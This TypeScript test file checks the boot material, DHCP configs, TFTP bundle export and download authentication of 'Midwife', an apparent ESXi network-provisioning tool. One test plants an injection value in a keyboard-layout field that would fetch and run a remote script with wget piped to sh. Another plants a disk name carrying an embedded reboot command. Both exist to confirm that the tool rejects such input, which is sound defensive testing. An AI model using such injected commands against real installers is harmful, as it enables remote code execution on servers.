// Boot material over the operator API: the chosen kinds' artifacts, the
// linter's findings for this machine, the DHCP configs, and the downloads
// (the TFTP bundle exported to disk, and in serve mode over the operator's
// HTTP server, never the listener).
import { readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { dispatch } from '../../main/contract/api'
import type { Host } from '../../main/contract/schemas'
import { bootCfgGet, parseBootCfg } from '../../main/core/boot/boot-cfg'
import { startServe, type RunningServe } from '../../main/serve/server'
import { hostToken, repoRoot, sampleHost, startTestApp, type TestApp } from '../support/app'
import { fakeMediaLibrary, saveBoot, untar, type MediaFolders } from '../support/netboot'

let t: TestApp
let media: MediaFolders
let host: Host
let token: string
let serve: RunningServe

beforeAll(async () => {
  t = await startTestApp()
  media = fakeMediaLibrary()
  await saveBoot(t.app, {
    media: { '8.0': media['8.0'], '9.0': media['9.0'] },
    dhcp: {
      subnet: '10.0.0.0/24',
      rangeStart: '10.0.0.100',
      rangeEnd: '10.0.0.199',
      router: '10.0.0.1',
      dnsServers: ['10.0.0.2'],
      tftpServer: '10.0.0.5',
    },
  })
  host = t.app.saveHost({ ...sampleHost, esxiVersion: '8.0', secureBoot: true })
  token = hostToken(t.app, host.id)
  serve = await startServe({
    handlers: t.app,
    events: t.app.events,
    staticDir: join(repoRoot, 'renderer'),
    logger: t.logger,
    downloads: (r) => t.app.download(r),
  })
})
afterAll(async () => {
  await serve.close()
  await t.close()
  media.remove()
})

describe('getBootMaterial', () => {
  it('lists every kind’s artifacts for the host, with the kickstart, masked secrets and URLs', () => {
    const m = t.app.getBootMaterial(host.id)
    expect(m.armed).toBe(true)
    expect(m.kinds.map((k) => [k.id, k.applies])).toEqual([
      ['pxelinux-bios', true],
      ['uefi-pxe', true],
      ['uefi-http', true],
      ['ipxe', true],
      ['iso', true],
      ['one-liner', true],
      ['enrollment', true],
    ])
    const byPath = new Map(m.artifacts.map((a) => [a.path, a]))
    expect(byPath.get(`/ks/${token}.cfg`)).toMatchObject({
      kind: 'kickstart',
      url: `${t.listenerUrl}/ks/${token}.cfg`,
      syntax: 'kickstart',
    })
    const perMac = byPath.get('/boot/01-00-50-56-aa-bb-01/boot.cfg')
    expect(perMac).toMatchObject({
      kind: 'uefi-http',
      scope: 'host',
      delivery: 'http',
      fileName: 'boot.cfg',
      url: `${t.listenerUrl}/boot/01-00-50-56-aa-bb-01/boot.cfg`,
      secrets: [token],
    })
    expect(bootCfgGet(parseBootCfg(perMac?.text ?? ''), 'prefix')).toBe(
      `${t.listenerUrl}/media/8.0`,
    )
    expect(byPath.get('esxi/mboot.efi')).toMatchObject({
      delivery: 'tftp',
      text: null,
      media: { version: '9.0', file: 'efi/boot/bootx64.efi' },
    })
    expect(byPath.get('pxelinux.cfg/01-00-50-56-aa-bb-01')?.text).toContain(
      'KERNEL esxi/8.0/mboot.c32',
    )
    // The per-host artifacts carry the token, and say so.
    for (const a of m.artifacts.filter((x) => x.text?.includes(token))) {
      expect(a.secrets, a.path).toContain(token)
    }
  })

  it('gives the linter’s findings for this machine: loopback and Secure Boot, not its own %firstboot', () => {
    const m = t.app.getBootMaterial(host.id)
    const codes = m.findings.map((f) => f.code)
    // The test listener is on 127.0.0.1, which no server can reach.
    expect(codes).toContain('advertised-loopback')
    // The host expects Secure Boot: the client never runs there. Its own kickstart is not
    // flagged for %firstboot: its %post report starts the Secure Boot path.
    expect(codes).toContain('secure-boot-port')
    expect(codes).not.toContain('firstboot-with-secure-boot')
    expect(m.artifacts.find((a) => a.kind === 'kickstart')?.text).toMatch(
      /^%post .*\n[\s\S]*\/installed/m,
    )
    expect(m.findings[0]?.severity).toBe('error')
    expect(m.findings.every((f) => f.message.length > 20)).toBe(true)
  })

  it('renders only the chosen kinds, and names an unknown one', async () => {
    const m = t.app.getBootMaterial(host.id, { kinds: ['iso', 'one-liner'] })
    // Every kind is still listed, so the screen can offer the others again.
    expect(m.kinds.filter((k) => k.chosen).map((k) => k.id)).toEqual(['iso', 'one-liner'])
    expect(m.kinds).toHaveLength(7)
    expect([...new Set(m.artifacts.map((a) => a.kind))].sort()).toEqual([
      'iso',
      'kickstart',
      'one-liner',
    ])
    const reply = await dispatch(t.app, 'getBootMaterial', [host.id, { kinds: ['floppy'] }])
    expect(reply.ok ? null : reply.error.code).toBe('invalid')
    expect(reply.ok ? '' : reply.error.message).toContain('unknown boot kind "floppy"')
  })

  it('generates the site’s DHCP config in every flavour, pointing at the listener', () => {
    const { dhcp } = t.app.getBootMaterial(host.id)
    expect(dhcp.map((d) => [d.flavour, d.problem])).toEqual([
      ['dnsmasq', null],
      ['dnsmasq-proxy', null],
      ['isc-dhcpd', null],
      ['kea', null],
      ['windows', null],
    ])
    const dnsmasq = dhcp.find((d) => d.flavour === 'dnsmasq')?.text ?? ''
    expect(dnsmasq).toContain('dhcp-range=set:esxi,10.0.0.100,10.0.0.199,255.255.255.0,43200')
    expect(dnsmasq).toContain(`dhcp-boot=tag:ipxe,${t.listenerUrl}/ipxe/menu.ipxe`)
    expect(dnsmasq).toContain(
      `dhcp-boot=tag:efihttp,tag:httpclient,${t.listenerUrl}/boot/mboot.efi`,
    )
    expect(dnsmasq).toContain('dhcp-boot=tag:efi64,tag:!ipxe,esxi/mboot.efi,,10.0.0.5')
    expect(dhcp.find((d) => d.flavour === 'dnsmasq-proxy')?.text).toContain(
      'dhcp-range=10.0.0.0,proxy,255.255.255.0',
    )
    const kea = JSON.parse(dhcp.find((d) => d.flavour === 'kea')?.text ?? '') as {
      Dhcp4: { subnet4: { subnet: string }[] }
    }
    expect(kea.Dhcp4.subnet4[0]?.subnet).toBe('10.0.0.0/24')
  })

  it('refuses a DHCP range or router outside the provisioning subnet, by field, and keeps what was saved', async () => {
    const before = t.app.getSettings()
    const r = await dispatch(t.app, 'saveSettings', [
      {
        ...before,
        boot: {
          ...before.boot,
          dhcp: {
            ...before.boot.dhcp,
            rangeStart: '10.0.1.100',
            rangeEnd: '10.0.0.50',
            router: '10.0.0.0',
          },
        },
      },
    ])
    expect(r).toMatchObject({ ok: false, error: { code: 'invalid' } })
    const message = r.ok ? '' : r.error.message
    expect(message).toContain(
      'boot.dhcp.rangeStart: 10.0.1.100 is not a host address in the provisioning subnet 10.0.0.0/24',
    )
    expect(message).toContain(
      'boot.dhcp.router: 10.0.0.0 is not a host address in the provisioning subnet 10.0.0.0/24',
    )
    expect(message).toContain(
      'boot.dhcp.rangeEnd: the range ends (10.0.0.50) before it starts (10.0.1.100)',
    )
    expect(t.app.getSettings().boot.dhcp).toEqual(before.boot.dhcp)
  })

  it('leaves out a keyboard layout stored before such a name was refused, and the profile still opens', () => {
    const before = t.app.store.settings.profile()
    try {
      // As an older Midwife stored it: a CR, then what the installer would take for commands.
      t.app.store.settings.saveProfile(before.spec, {
        ...before.install,
        keyboard: 'US Default\r%pre\rwget -O- http://10.9.9.9/x | sh',
        overwriteVmfs: true,
      })
      expect(t.app.getProfile().install).toMatchObject({ overwriteVmfs: true })
      expect(t.app.getProfile().install.keyboard).toBeUndefined()
      const kickstart = t.app.getBootMaterial(host.id).artifacts.find((a) => a.kind === 'kickstart')
      expect(kickstart?.text).toContain('--overwritevmfs')
      expect(kickstart?.text).not.toMatch(/keyboard|\r|10\.9\.9\.9/)

      // A disk name refused now is not swapped for the first disk: that would erase another.
      t.app.store.settings.saveProfile(before.spec, {
        ...before.install,
        disk: { kind: 'named', disk: 'mpx.vmhba0\u0085reboot' },
      })
      expect(() => t.app.getBootMaterial(host.id)).toThrow('a disk name has no spaces')
    } finally {
      t.app.store.settings.saveProfile(before.spec, before.install)
    }
  })

  it('shows the generic files and lines for unknown servers', () => {
    const d = t.app.getDiscoveryMaterial()
    const paths = d.artifacts.map((a) => a.path)
    expect(paths).toContain('pxelinux.cfg/default')
    expect(paths).toContain('/ipxe/menu.ipxe')
    expect(paths.some((p) => p.includes('01-'))).toBe(false)
    expect(d.artifacts.find((a) => a.kind === 'enrollment')?.text).toBe(`${d.bootOptions}\n`)
  })

  it('says servers the generic kickstart installs are never heard from at a site expecting Secure Boot', async () => {
    await t.app.saveSettings({ ...t.app.getSettings(), discoveryRootPassword: 'Disc0very!pw' })
    const finding = () =>
      t.app.getDiscoveryMaterial().findings.find((f) => f.code === 'firstboot-with-secure-boot')
    expect(finding()).toBeUndefined()
    await saveBoot(t.app, { secureBootExpected: true })
    try {
      expect(finding()).toMatchObject({ severity: 'error' })
      expect(finding()?.message).toContain('checks in only from %firstboot')
    } finally {
      await saveBoot(t.app, { secureBootExpected: false })
    }
  })
})

describe('the TFTP bundle', () => {
  it('is exported into the data folder, owner only, and holds the TFTP files', async () => {
    const out = await t.app.exportTftpBundle({ hostId: host.id, includeMedia: false })
    expect(out.path.startsWith(join(t.dataDir, 'exports'))).toBe(true)
    expect(out.path).toMatch(/midwife-tftp-esx01-.*\.tar\.gz$/)
    expect(statSync(out.path).mode & 0o777).toBe(0o600)
    expect(out.bytes).toBe(statSync(out.path).size)
    const files = await untar(Readable.from(readFileSync(out.path)))
    expect(files.get('esxi/mboot.efi')?.toString()).toBe('9.0:efi/boot/bootx64.efi\n')
    expect(files.get('pxelinux.cfg/01-00-50-56-aa-bb-01')?.toString()).toContain(`/ks/${token}.cfg`)
    expect(files.has('/boot/mboot.efi')).toBe(false)
    // Two exports never overwrite each other.
    const again = await t.app.exportTftpBundle({ hostId: null, includeMedia: false })
    expect(again.path).not.toBe(out.path)
  })

  it('says plainly that a file is in the way of the export folder, and leaves the file alone', async () => {
    const exports = join(t.dataDir, 'exports')
    rmSync(exports, { recursive: true, force: true })
    writeFileSync(exports, 'not a folder')
    try {
      expect(
        await dispatch(t.app, 'exportTftpBundle', [{ hostId: host.id, includeMedia: false }]),
      ).toEqual({
        ok: false,
        error: {
          code: 'failed',
          message: `the TFTP bundle could not be written: cannot use ${exports} as the export folder: a file is in the way (it, or a folder above it, is not a folder)`,
        },
      })
      expect(readFileSync(exports, 'utf8')).toBe('not a folder')
    } finally {
      rmSync(exports, { force: true })
    }
    // With the file gone, the export works again.
    expect(
      (await t.app.exportTftpBundle({ hostId: host.id, includeMedia: false })).bytes,
    ).toBeGreaterThan(0)
  })

  it('says that a configured host’s token is refused, in the listener’s words', async () => {
    const done = t.app.saveHost({ ...sampleHost, hostname: 'esx07', mac: '00:50:56:aa:bb:07' })
    const before = t.app.getBootMaterial(done.id)
    expect(before.tokenRefused).toBeNull()
    t.app.store.hosts.setState(done.id, 'configured', 'configured for this test')
    const after = t.app.getBootMaterial(done.id)
    const res = await fetch(after.kickstartUrl)
    expect(res.status).toBe(410)
    expect(after.tokenRefused).toBe((await res.text()).trim())
    expect(after.tokenRefused).toBe(
      'esx07.lab.local is configured; its deployment token no longer works. Use Reinstall in Midwife to re-arm it.',
    )
    t.app.deleteHost(done.id)
  })

  it('refuses a host without material, and unknown kinds', async () => {
    expect(await dispatch(t.app, 'exportTftpBundle', [{ hostId: 999 }])).toMatchObject({
      ok: false,
      error: { code: 'not_found' },
    })
    expect(
      await dispatch(t.app, 'exportTftpBundle', [{ hostId: null, kinds: ['nope'] }]),
    ).toMatchObject({ ok: false, error: { code: 'invalid' } })
  })
})

describe('serve-mode downloads', () => {
  const url = (path: string) => `http://127.0.0.1:${serve.port}${path}`
  const auth = () => ({ Authorization: `Bearer ${serve.token}` })

  it('streams the bundle with the ISO copied under its TFTP folder', async () => {
    const res = await fetch(url(`/download/tftp-bundle.tar.gz?host=${host.id}&media=1`), {
      headers: auth(),
    })
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('application/gzip')
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="midwife-tftp-esx01.tar.gz"',
    )
    const files = await untar(Readable.from(Buffer.from(await res.arrayBuffer())))
    expect(files.get('esxi/8.0/b.b00')?.toString()).toBe('8.0:b.b00\n')
    expect(files.get('esxi/9.0/efi/boot/crypto64.efi')?.toString()).toBe(
      '9.0:efi/boot/crypto64.efi\n',
    )
    expect(
      bootCfgGet(parseBootCfg(files.get('esxi/8.0/boot.cfg')?.toString() ?? ''), 'prefix'),
    ).toBe('esxi/8.0')
  })

  it('serves each DHCP flavour as a file', async () => {
    const res = await fetch(url('/download/dhcp/isc-dhcpd'), { headers: auth() })
    expect(res.status).toBe(200)
    expect(res.headers.get('content-disposition')).toContain('midwife-dhcpd.conf')
    expect(await res.text()).toContain('subnet 10.0.0.0 netmask 255.255.255.0 {')
  })

  it('follows a link with a one-use ticket the page asked for with its token', async () => {
    const ask = () => fetch(url('/download-ticket'), { method: 'POST', headers: auth() })
    expect((await fetch(url('/download-ticket'), { method: 'POST' })).status).toBe(401)
    const { ticket } = (await (await ask()).json()) as { ticket: string }
    expect(ticket).toMatch(/^[\w-]{32}$/)
    const link = url(`/download/dhcp/isc-dhcpd?ticket=${ticket}`)
    const first = await fetch(link)
    expect(first.status).toBe(200)
    expect(await first.text()).toContain('subnet 10.0.0.0 netmask 255.255.255.0 {')
    // Used once: the same link again, or a made-up ticket, is refused.
    expect((await fetch(link)).status).toBe(401)
    expect((await fetch(url('/download/dhcp/kea?ticket=made-up'))).status).toBe(401)
    // A ticket opens downloads only, not the API.
    const other = ((await (await ask()).json()) as { ticket: string }).ticket
    const api = await fetch(url(`/api/listHosts?ticket=${other}`), { method: 'POST', body: '{}' })
    expect(api.status).toBe(401)
  })

  it('refuses without the session token, bad requests, and never on the listener', async () => {
    expect((await fetch(url('/download/dhcp/kea'))).status).toBe(401)
    expect((await fetch(url('/download/dhcp/bootp'), { headers: auth() })).status).toBe(400)
    expect((await fetch(url('/download/elsewhere'), { headers: auth() })).status).toBe(404)
    const badHost = await fetch(url('/download/tftp-bundle.tar.gz?host=abc'), { headers: auth() })
    expect(badHost.status).toBe(400)
    const missing = await fetch(url('/download/tftp-bundle.tar.gz?host=999'), { headers: auth() })
    expect(missing.status).toBe(404)
    const post = await fetch(url('/download/dhcp/kea'), { method: 'POST', headers: auth() })
    expect(post.status).toBe(405)
    for (const p of ['/download/dhcp/kea', '/download/tftp-bundle.tar.gz']) {
      expect((await fetch(`${t.listenerUrl}${p}`)).status).toBe(404)
    }
  })
})
